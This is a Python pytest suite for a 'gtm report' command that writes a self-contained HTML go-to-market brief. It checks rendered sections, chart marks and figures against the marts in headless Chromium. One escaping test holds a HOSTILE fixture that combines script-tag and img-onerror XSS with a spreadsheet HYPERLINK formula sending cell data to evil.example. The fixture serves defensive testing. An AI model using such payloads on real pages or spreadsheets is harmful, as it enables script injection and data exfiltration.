"""`gtm report`: the GTM brief is one self-contained HTML file that opens in a real browser from the file
system, draws a chart with data in every section, states figures equal to the marts', fetches nothing from
the network and escapes whatever text the marts hold.

`gtm report --out` runs through the CLI against the session's built world; headless Chromium (support.browser)
opens the file over file:// and one screenshot per section is saved to <GTM_TEST_HOME>/screenshots/report/.
"""

from __future__ import annotations

import base64
import html
import re
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import psycopg
import pytest
from selenium.webdriver.common.by import By
from typer.testing import CliRunner

from conftest import TEST_HOME
from gtm.cli import app
from gtm.outputs import report
from gtm.settings import WarehouseSettings
from support.browser import Browser, headless_chromium

runner = CliRunner()
SCREENSHOTS = TEST_HOME / "screenshots" / "report"

HEADINGS = {
    "channel-economics": "Channel economics",
    "funnel": "Funnel",
    "leaks": "The three leaks",
    "efficiency": "Monthly efficiency trends",
    "pipeline-health": "Pipeline health",
    "outreach": "Outreach action queue",
    "attribution": "Attribution by model and channel",
    "arr-retention": "ARR bridge and retention",
    "o2r": "O2R: reliability against usage and revenue",
}

# At least one headline figure per section, recomputed here straight from the marts:
# section -> [(data-figure key, SQL giving the value, how the page must print it)].
LATEST_COST_COMPLETE_CAC = """
    select cac_amount from marts.rpt_monthly_unit_economics
    where is_cost_complete and channel = '{channel}' order by month_start_date desc limit 1
"""
EXPECTED_FIGURES: dict[str, list[tuple[str, str, Callable[[float], str]]]] = {
    "channel-economics": [
        (
            f"ltv_to_cac_12.{channel}",
            f"select ltv_to_cac_12_ratio from marts.rpt_cac_ltv_by_channel where channel = '{channel}'",
            lambda v: f"{v:.1f}x",
        )
        for channel in ("Inbound", "Outbound")
    ],
    "funnel": [
        (
            f"win_rate_of_closed.{channel}",
            f"select win_rate_of_closed from marts.rpt_funnel_summary where channel = '{channel}'",
            lambda v: f"{v * 100:.1f}%",
        )
        for channel in ("Inbound", "Outbound")
    ]
    + [
        (
            "lead_to_opportunity_rate.Inbound",
            "select lead_to_opportunity_rate from marts.rpt_funnel_summary where channel = 'Inbound'",
            lambda v: f"{v * 100:.1f}%",
        )
    ],
    "leaks": [
        (
            "leak1_share_of_losses",
            "select sum(lost_count) filter (where lost_reason = 'No Demo Held')::numeric / sum(lost_count) "
            "from marts.rpt_loss_reasons",
            lambda v: f"{v * 100:.1f}%",
        ),
        (
            "leak2_share_of_losses",
            "select sum(lost_count) filter (where lost_reason in ('No Decision / Non-Responsive', "
            "'Lack of Urgency'))::numeric / sum(lost_count) from marts.rpt_loss_reasons",
            lambda v: f"{v * 100:.1f}%",
        ),
        (
            "leak3_share_of_leads",
            "select sum(lead_count) filter (where lead_status = 'Working')::numeric / sum(lead_count) "
            "from marts.rpt_lead_status_distribution",
            lambda v: f"{v * 100:.1f}%",
        ),
    ],
    "efficiency": [
        (f"cac.{channel}", LATEST_COST_COMPLETE_CAC.format(channel=channel), lambda v: f"${v:,.0f}")
        for channel in ("Inbound", "Outbound")
    ],
    "pipeline-health": [
        (
            "open_opportunities",
            "select count(*) from marts.ops_pipeline_health where record_type = 'Opportunity'",
            lambda v: f"{v:,.0f}",
        ),
        (
            "no_held_demo_opportunities",
            "select count(*) from marts.ops_pipeline_health where record_type = 'Opportunity' "
            "and not is_demo_held",
            lambda v: f"{v:,.0f}",
        ),
        (
            "open_forecasted_annual_revenue",
            "select sum(forecasted_annual_revenue_amount) from marts.ops_pipeline_health "
            "where record_type = 'Opportunity'",
            lambda v: report.fmt_money(v, compact=True),
        ),
    ],
    "outreach": [
        (
            "action_required",
            "select count(*) from marts.rpt_lead_outreach_priority "
            "where dashboard_status = 'ACTION REQUIRED'",
            lambda v: f"{v:,.0f}",
        ),
        (
            "expired",
            "select count(*) from marts.rpt_lead_outreach_priority where dashboard_status = 'EXPIRED'",
            lambda v: f"{v:,.0f}",
        ),
    ],
    "attribution": [
        (
            "top_share.first_touch",
            "select max(pipeline_share) from marts.rpt_attribution_by_channel "
            "where attribution_model = 'first_touch'",
            lambda v: f"{v * 100:.1f}%",
        )
    ],
    "arr-retention": [
        (
            "closing_arr",
            "select sum(closing_arr_amount) from marts.fct_arr_bridge "
            "where month_start_date = (select max(month_start_date) from marts.fct_arr_bridge)",
            lambda v: report.fmt_money(v, compact=True),
        ),
        (
            "grr_t12",
            "select trailing_12m_grr_rate from marts.rpt_retention where cut_name = 'all' "
            "order by month_start_date desc limit 1",
            lambda v: f"{v * 100:.1f}%",
        ),
        (
            "nrr_t12",
            "select trailing_12m_nrr_rate from marts.rpt_retention where cut_name = 'all' "
            "order by month_start_date desc limit 1",
            lambda v: f"{v * 100:.1f}%",
        ),
    ],
    "o2r": [
        (
            f"{group}_contraction_or_churn.12",
            "select contraction_or_churn_rate from marts.rpt_o2r_lead_lag "
            f"where horizon_weeks = 12 and exposure_group = '{group}'",
            lambda v: f"{v * 100:.1f}%",
        )
        for group in ("exposed", "unexposed")
    ],
}

# In the page: per section, what rendered (heading text, chart marks drawn with a visible size, table rows,
# headline figures), plus every URL the document references and every resource the browser fetched.
INSPECT_PAGE = """
const sections = Array.from(document.querySelectorAll("section.report-section")).map((s) => {
    const charts = s.querySelectorAll("svg.chart");
    const chart = charts[0];
    const marks = chart ? Array.from(chart.querySelectorAll(".mark")) : [];
    return {
        id: s.id,
        dataSection: s.dataset.section,
        heading: (s.querySelector("h2") || {}).textContent,
        headline: (s.querySelector("p.headline") || {}).textContent,
        meta: (s.querySelector("p.meta") || {}).textContent,
        charts: charts.length,
        dataPoints: chart ? Number(chart.getAttribute("data-points")) : null,
        marks: marks.length,
        visibleMarks: marks.filter((m) => {
            const r = m.getBoundingClientRect();
            return r.width > 0 && r.height > 0;
        }).length,
        tableRows: Array.from(s.querySelectorAll("table")).map((t) => t.tBodies[0].rows.length),
        figures: Object.fromEntries(Array.from(s.querySelectorAll("p.headline strong.figure")).map(
            (f) => [f.dataset.figure, [f.dataset.value, f.textContent]])),
    };
});
const urls = Array.from(document.querySelectorAll("[src], [href], [srcset], [action], [data]")).map(
    (el) => el.getAttribute("src") || el.getAttribute("href") || el.getAttribute("srcset")
        || el.getAttribute("action") || el.getAttribute("data"));
return {
    sections: sections,
    urls: urls,
    scripts: document.scripts.length,
    fetched: performance.getEntriesByType("resource").map((r) => r.name),
    header: document.querySelector("header.masthead").textContent,
};
"""


def save_section_screenshot(browser: Browser, element, path: Path) -> Path:
    """The whole section, also the part below the viewport (an element screenshot stops at its edge)."""
    x, y, width, height = browser.execute(
        "const r = arguments[0].getBoundingClientRect();"
        "return [r.left + window.scrollX, r.top + window.scrollY, r.width, r.height];",
        element,
    )
    shot = browser.driver.execute_cdp_cmd(
        "Page.captureScreenshot",
        {
            "format": "png",
            "captureBeyondViewport": True,
            "clip": {"x": x, "y": y, "width": width, "height": height, "scale": 1},
        },
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(base64.b64decode(shot["data"]))
    return path


def mart_value(conn: psycopg.Connection, query: str) -> Any:
    row = conn.execute(query).fetchone()
    assert row is not None and row[0] is not None, f"no value from the marts for: {query}"
    return float(row[0])


@pytest.fixture(scope="module")
def bi_reader(built, warehouse: WarehouseSettings):
    with psycopg.connect(warehouse.url(warehouse.bi_reader), autocommit=True) as conn:
        yield conn


@pytest.fixture(scope="module")
def report_file(built, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("report") / "gtm_brief.html"
    result = runner.invoke(app, ["report", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert f"GTM brief: {out.resolve()}" in result.output
    return out


@pytest.mark.slow
def test_report_renders_every_section_with_the_marts_figures(report_file: Path, bi_reader):
    started = time.monotonic()
    page = report_file.read_text()
    # Self-contained: no script, no stylesheet link, no URL to fetch anything from.
    assert not re.search(r"""(src|href|srcset|action)\s*=\s*["']?\s*(https?:)?//""", page, re.I)
    assert "<script" not in page.lower() and "<link" not in page.lower() and "@import" not in page

    status = bi_reader.execute(
        "select as_of_date, generator_scale, generator_seed from marts.rpt_warehouse_status"
    ).fetchone()
    as_of = report.fmt_day(status[0])
    scale = f"scale {status[1]:g}, seed {status[2]}"

    print(f"\nreport: {report_file}\nscreenshots: {SCREENSHOTS}/")
    with headless_chromium() as browser:
        browser.open(report_file.as_uri())
        browser.wait_for_css("section.report-section#o2r svg.chart")
        found = browser.execute(INSPECT_PAGE)
        assert browser.console_errors() == []
        assert found["fetched"] == [], f"the report fetched resources: {found['fetched']}"
        assert found["scripts"] == 0
        assert all(url.startswith("#") for url in found["urls"]), found["urls"]
        assert as_of in found["header"] and scale in found["header"], found["header"]

        sections = {s["id"]: s for s in found["sections"]}
        assert list(sections) == list(HEADINGS), f"sections in the page: {list(sections)}"
        for section_id, heading in HEADINGS.items():
            s = sections[section_id]
            where = f"section {section_id}"
            assert s["dataSection"] == section_id
            assert s["heading"] == heading, where
            assert s["charts"] == 1, f"{where} has {s['charts']} charts"
            assert s["dataPoints"] > 0, f"{where}: the chart drew no data"
            assert s["marks"] == s["dataPoints"] == s["visibleMarks"], (
                f"{where}: data-points={s['dataPoints']}, {s['marks']} marks, {s['visibleMarks']} visible"
            )
            assert s["tableRows"] and all(n > 0 for n in s["tableRows"]), f"{where}: tables {s['tableRows']}"
            assert as_of in s["meta"] and scale in s["meta"], f"{where}: {s['meta']!r}"
            for key, query, shown in EXPECTED_FIGURES[section_id]:
                assert key in s["figures"], f"{where}: no figure {key} in {s['headline']!r}"
                value, text = s["figures"][key]
                expected = mart_value(bi_reader, query)
                assert float(value) == pytest.approx(expected, rel=1e-6, abs=1e-9), f"{where}: {key}"
                assert text == shown(expected), f"{where}: {key} shows {text!r}, the marts say {expected}"

        for element in browser.driver.find_elements(By.CSS_SELECTOR, "section.report-section"):
            save_section_screenshot(browser, element, SCREENSHOTS / f"{element.get_attribute('id')}.png")
        browser.screenshot(SCREENSHOTS / "page.png")
    assert sorted(p.stem for p in SCREENSHOTS.glob("*.png")) == sorted([*HEADINGS, "page"])
    print(f"browser checks and screenshots {time.monotonic() - started:.1f}s")


HOSTILE = (
    '<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2">'
    '=HYPERLINK("https://evil.example/?q="&A1, "click")'
)


@pytest.mark.slow
def test_report_escapes_hostile_mart_values(bi_reader, tmp_path: Path):
    data = report.load(bi_reader, "marts")
    data.sections["leaks"]["loss_reasons"][-1]["lost_reason"] = HOSTILE
    data.sections["outreach"]["queue"][0]["lead_id"] = HOSTILE
    data.sections["attribution"]["comparison"][0]["channel_group"] = HOSTILE
    page = report.render_html(data)
    assert "<script" not in page and "<img" not in page
    assert html.escape(HOSTILE, quote=True) in page
    path = tmp_path / "hostile.html"
    path.write_text(page)
    with headless_chromium() as browser:
        browser.open(path.as_uri())
        browser.wait_for_css("section#leaks svg.chart")
        assert browser.execute("return window.__pwned === undefined && document.scripts.length === 0")
        assert browser.execute("return document.images.length") == 0
        assert browser.execute("return performance.getEntriesByType('resource').length") == 0
        # Shown as text, in the table and in the chart's labels and tooltips.
        leaks = browser.driver.find_element(By.ID, "leaks")
        tables = [t.get_attribute("textContent") for t in leaks.find_elements(By.TAG_NAME, "table")]
        assert any(HOSTILE in text for text in tables)
        assert HOSTILE in leaks.find_element(By.CSS_SELECTOR, "svg.chart").get_attribute("textContent")
        assert HOSTILE in browser.driver.find_element(By.ID, "outreach").get_attribute("textContent")
        assert browser.console_errors() == []


@pytest.mark.slow
def test_report_states_empty_sections_and_names_missing_marts(bi_reader, monkeypatch, tmp_path: Path):
    data = report.load(bi_reader, "marts")
    # An empty action queue is legitimate: the section says so instead of drawing a chart.
    data.sections["outreach"] = {"statuses": [], "queue": []}
    page = report.render_html(data)
    outreach = page[page.index('<section id="outreach"') :]
    outreach = outreach[: outreach.index("</section>")]
    assert 'class="empty"' in outreach and "svg" not in outreach

    # A missing mart, or an empty one whose data cannot be empty, fails with its name, not a traceback.
    with pytest.raises(report.ReportError, match=r"no_such_marts\.rpt_warehouse_status does not exist"):
        report.load(bi_reader, "no_such_marts")
    marts = report.Marts(bi_reader, "marts")
    with pytest.raises(report.ReportError, match=r"marts\.rpt_funnel_summary is empty"):
        marts.rows("select * from {t} where false", required="rpt_funnel_summary", t="rpt_funnel_summary")
    monkeypatch.setenv("DBT_CI_SCHEMA", "no_such")
    result = runner.invoke(app, ["report", "--target", "ci", "--out", str(tmp_path / "r.html")])
    assert result.exit_code == 1
    assert "no_such_marts.rpt_warehouse_status does not exist" in result.output
    assert "Traceback" not in result.output
